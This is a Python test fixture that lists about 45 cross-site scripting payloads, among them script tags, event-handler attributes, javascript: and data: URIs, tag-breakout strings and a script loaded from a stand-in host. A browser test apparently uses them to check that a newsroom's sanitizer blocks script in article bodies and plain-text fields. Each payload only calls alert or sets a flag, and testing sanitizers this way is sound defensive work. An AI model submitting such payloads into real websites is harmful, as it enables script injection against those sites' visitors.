"""Cross-site scripting payloads for the browser test (tests/browser/test_xss_in_chromium.py).

``XSS_PAYLOADS`` is the newsroom's list (``tests/test_sanitizer.py``, aimed at
article bodies) followed by the ones here, aimed at plain-text fields too
(titles, attributes, JSON-LD): quotes, ``</title>`` and ``</script>`` that try
to break out of where the text is printed. Each payload, if it ran, would call
``alert`` or set ``window.__xss``; the browser test listens for dialogs and
checks that global, so a payload that runs is seen whichever way it runs.
"""

from .test_sanitizer import XSS_PAYLOADS as BODY_PAYLOADS

FIELD_PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script>window.__xss=1</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" onload=alert(1)></iframe>',
    '<a href="javascript:alert(1)">bax</a>',
    '<a href="JaVaScRiPt:alert(1)">bax</a>',
    '<a href="&#106;avascript:alert(1)">bax</a>',
    '<a href="java\tscript:alert(1)">bax</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bax</a>',
    '<a href="#" onclick="alert(1)" onmouseover="alert(1)">bax</a>',
    '<p style="background:url(javascript:alert(1))">mətn</p>',
    '<div style="width: expression(alert(1));">mətn</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>göndər</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "{{ 7*7 }}{% load static %}<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<template><img src=x onerror=alert(1)></template>",
    "<marquee onstart=alert(1)>x</marquee>",
]

# Both lists, each payload once, in order.
XSS_PAYLOADS = list(dict.fromkeys(BODY_PAYLOADS + FIELD_PAYLOADS))
